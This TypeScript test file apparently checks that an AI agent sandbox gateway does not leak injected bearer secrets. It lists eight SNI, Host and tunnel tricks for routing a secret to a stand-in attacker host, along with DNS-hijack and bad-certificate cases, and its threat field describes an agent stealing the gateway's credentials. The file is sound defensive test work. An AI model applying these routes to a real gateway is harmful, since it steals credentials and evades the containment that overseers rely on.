import type { Finding } from "../case.ts";
import { BAD_CERTIFICATES } from "../internet/certificates.ts";
import type { Probe } from "../internet/probe/types.ts";
import { connect, formatGet, raw } from "../internet/probes.ts";
import { ask, BEARER, isBearer, OWN, tellStray } from "./asking.ts";
import { type SecretCase, type SecretsGiven, SITE } from "./given.ts";
import { listArrivals } from "./seen.ts";

const SUITE = "secrets";

async function checkVerified({ guarded, secrets }: SecretsGiven): Promise<Finding> {
  const { internet } = guarded;
  const { decoy, echo } = internet.addresses;
  const bad = Object.values(BAD_CERTIFICATES);
  internet.script(SITE.stolen, { answers: [[decoy]] });
  await guarded.probe([
    ...[...bad, SITE.stolen].map((host) => ask(host, `${BEARER} https://${host}/`)),
    ask("no TLS", `${BEARER} http://${SITE.own}/`),
    ask("control", `${BEARER} ${OWN}/verified`),
  ]);
  const events = await internet.events();
  internet.script(SITE.stolen, { answers: [[echo]] });
  const arrivals = listArrivals(events);
  const asked = new Set(events.flatMap((event) => event.kind === "dns" ? [event.name] : []));
  const evidence = [
    ...tellStray(arrivals, secrets),
    ...arrivals.filter(({ path }) => path !== "/verified")
      .map(({ host }) => `a request for ${host} was sent on`),
  ];
  return {
    held: evidence.length === 0,
    control:
      arrivals.some((arrival) => arrival.path === "/verified" && isBearer(arrival, secrets)) &&
      [...bad, SITE.stolen].every((host) => asked.has(host)),
    seen:
      `${bad.length} wrong certificates, a stolen address, no TLS: ${evidence.length} requests sent on`,
    evidence,
  };
}

async function checkTheft({ guarded, secrets }: SecretsGiven): Promise<Finding> {
  const { internet } = guarded;
  const { decoy } = internet.addresses;
  const get = (host: string, path: string) => [
    formatGet(host, path).replace(
      "\r\n\r\n",
      `\r\nAuthorization: Bearer ${secrets.key.placeholder}\r\n\r\n`,
    ),
  ];
  const tls = (sni: string) => ({ tls: { sni } });
  const tries: Probe[] = [
    raw("an attacker's name in TLS, the secret's host inside", {
      ...{ host: "@gateway", port: 443 },
      ...tls(SITE.evil),
      send: get(SITE.own, "/theft"),
    }),
    raw("the attacker's address itself", {
      ...{ host: decoy, port: 443 },
      ...tls(SITE.own),
      send: get(SITE.own, "/theft"),
    }),
    connect("a tunnel to the attacker", `${SITE.evil}:443`, {
      ...tls(SITE.own),
      send: get(SITE.own, "/theft"),
    }),
    connect("a tunnel to the attacker's address", `${decoy}:443`, {
      ...tls(SITE.own),
      send: get(SITE.own, "/theft"),
    }),
    connect("the secret's tunnel, an attacker's name in TLS", `${SITE.own}:443`, {
      ...tls(SITE.evil),
      send: get(SITE.own, "/theft"),
    }),
    connect("the secret's tunnel, an attacker's host inside", `${SITE.own}:443`, {
      ...tls(SITE.own),
      send: get(SITE.evil, "/theft"),
    }),
    connect("another host's tunnel, the secret's host inside", `${SITE.opened}:443`, {
      ...tls(SITE.opened),
      send: get(SITE.own, "/theft"),
    }),
    connect("a tunnel that is left alone, the secret's host inside", `${SITE.closed}:443`, {
      ...tls(SITE.closed),
      send: get(SITE.own, "/theft"),
    }),
  ];
  await guarded.probe([
    ...tries,
    connect("control", `${SITE.own}:443`, { ...tls(SITE.own), send: get(SITE.own, "/control") }),
  ]);
  const events = await internet.events();
  const arrivals = listArrivals(events);
  const evidence = [
    ...tellStray(arrivals, secrets),
    ...arrivals.filter((arrival) => arrival.path === "/theft" && isBearer(arrival, secrets))
      .map(({ host }) => `the value was put in for ${host}, which was not asked for as itself`),
    ...events.flatMap((event) =>
      (event.kind === "bytes" || event.kind === "tls") && event.role === "decoy"
        ? ["the attacker was reached"]
        : []
    ),
  ];
  return {
    held: evidence.length === 0,
    control: arrivals.some((arrival) => arrival.path === "/control" && isBearer(arrival, secrets)),
    seen: `${tries.length} ways, ${evidence.length} values at other listeners`,
    evidence,
  };
}

/** Who pretends to be a secret's host. */
export const THEFT_CASES: readonly SecretCase[] = [
  {
    id: "N11",
    suite: SUITE,
    title: "no name in TLS, tunnel or Host gets a secret sent to somebody else",
    threat: "an agent names the secret's host to the gateway and has it sent to its own machine",
    expectation:
      "eight ways to name two hosts, the value at no listener but its own; one name alone gets it",
    source: "agentcage/agentcage#175, #214",
    brokenBy: "a request is for whatever host it names",
    quick: false,
    check: checkTheft,
  },
  {
    id: "S11",
    suite: SUITE,
    title: "a value leaves over verified TLS alone",
    threat: "whoever holds the name server, or the line, is given the key",
    expectation:
      "a stolen address, four wrong certificates and plain HTTP see no request; the real host sees one",
    source: "sandcage",
    brokenBy: "any certificate will do",
    quick: false,
    check: checkVerified,
  },
];
